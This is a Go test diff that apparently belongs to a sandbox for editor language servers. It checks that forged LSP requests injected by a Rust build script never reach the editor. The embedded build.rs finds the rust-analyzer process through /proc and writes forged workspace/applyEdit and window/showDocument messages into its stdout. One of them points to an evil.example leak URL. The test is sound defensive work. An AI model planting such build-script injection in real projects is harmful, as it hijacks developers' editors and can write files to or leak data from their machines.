@@ -56,6 +56,8 @@ type lspClient struct {
 	resp   map[int]chan json.RawMessage
 	notes  chan map[string]any
 	stderr *strings.Builder
+	// requests are the methods of the requests the server sent.
+	requests []string
 }
 
 func startLSP(t *testing.T, e *env, dir, ra string) *lspClient {
@@ -111,6 +113,9 @@ func (c *lspClient) readLoop(out io.Reader) {
 		case msg.Method != "" && msg.ID != nil:
 			// A request from the server (progress tokens, registrations):
 			// answer it as a plain editor would.
+			c.mu.Lock()
+			c.requests = append(c.requests, msg.Method)
+			c.mu.Unlock()
 			c.send(map[string]any{"jsonrpc": "2.0", "id": msg.ID, "result": nil})
 		case msg.Method != "":
 			var v map[string]any
@@ -455,4 +460,79 @@ func processesIn(dir string) []string {
 		}
 	}
 	return out
+}
+
+// TestRustAnalyzerForgedRequestsNeverReachTheEditor: a build script run by
+// rust-analyzer writes LSP requests into the server's output, asking the
+// editor to create a file on the host and open a URL. They must not reach
+// the editor, and the server keeps working.
+func TestRustAnalyzerForgedRequestsNeverReachTheEditor(t *testing.T) {
+	ra := rustAnalyzer(t)
+	e := newEnv(t)
+	e.publish(testregistry.Crate{Name: "adder", Version: "0.3.1", Files: map[string]string{
+		"src/lib.rs": "/// Adds two numbers.\npub fn add(a: i32, b: i32) -> i32 { a + b }\n"}})
+	planted := filepath.Join(e.root, "pwned-by-lsp")
+	mainRS := "fn main() {\n    let total = adder::add(2, 3);\n    println!(\"{}\", total);\n}\n"
+	ws := e.project("forge", map[string]string{
+		"Cargo.toml": "[package]\nname = \"forge\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nadder = \"0.3\"\n",
+		"build.rs": `use std::io::Write;
+fn main() {
+    let bodies = [
+        r#"{"jsonrpc":"2.0","id":"forged-1","method":"workspace/applyEdit","params":{"edit":{"documentChanges":[{"kind":"create","uri":"file://` + planted + `"}]}}}"#,
+        r#"{"jsonrpc":"2.0","id":"forged-2","method":"window/showDocument","params":{"uri":"https://evil.example/?leak=1","external":true}}"#,
+    ];
+    let mut report = String::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        let pid = e.file_name().to_string_lossy().to_string();
+        if !pid.chars().all(|c| c.is_ascii_digit()) { continue; }
+        let cmd = String::from_utf8_lossy(&std::fs::read(format!("/proc/{}/cmdline", pid)).unwrap_or_default()).to_string();
+        if !cmd.split('\0').next().unwrap_or("").ends_with("/rust-analyzer") { continue; }
+        for body in bodies {
+            let r = std::fs::OpenOptions::new().write(true).open(format!("/proc/{}/fd/1", pid))
+                .and_then(|mut f| f.write_all(format!("Content-Length: {}\r\n\r\n{}", body.len(), body).as_bytes()));
+            report.push_str(if r.is_ok() { "injected " } else { "denied " });
+        }
+    }
+    std::fs::write(format!("{}/inject.txt", std::env::var("OUT_DIR").unwrap()), report).unwrap();
+}
+`,
+		"src/main.rs": mainRS,
+	})
+	c := startLSP(t, e, ws, ra)
+	root := "file://" + ws
+	c.call("initialize", map[string]any{"processId": nil, "rootUri": root,
+		"capabilities": map[string]any{"textDocument": map[string]any{"hover": map[string]any{"contentFormat": []string{"plaintext"}}}}},
+		60*time.Second)
+	c.notify("initialized", map[string]any{})
+	mainURI := root + "/src/main.rs"
+	c.notify("textDocument/didOpen", map[string]any{"textDocument": map[string]any{
+		"uri": mainURI, "languageId": "rust", "version": 1, "text": mainRS}})
+
+	var report []byte
+	deadline := time.Now().Add(120 * time.Second)
+	for len(report) == 0 && time.Now().Before(deadline) {
+		for _, pattern := range []string{"target/*/build/forge-*/out/inject.txt", "target/*/*/build/forge-*/out/inject.txt"} {
+			if m, _ := filepath.Glob(filepath.Join(ws, pattern)); len(m) > 0 {
+				report, _ = os.ReadFile(m[0])
+			}
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+	t.Logf("build script: %q", report)
+	if len(report) == 0 {
+		t.Fatalf("the build script never ran or found no server\n%s", c.stderr.String())
+	}
+	// The server still answers, so everything it wrote has been read.
+	c.hoverUntil(mainURI, mainRS, "add(2", "Adds two numbers", 120*time.Second)
+	c.mu.Lock()
+	got := append([]string(nil), c.requests...)
+	c.mu.Unlock()
+	for _, m := range got {
+		if m == "workspace/applyEdit" || m == "window/showDocument" {
+			t.Fatalf("a forged %s reached the editor (server requests: %v)", m, got)
+		}
+	}
+	if fileExists(planted) {
+		t.Fatal("the forged edit created a file on the host")
+	}
 }
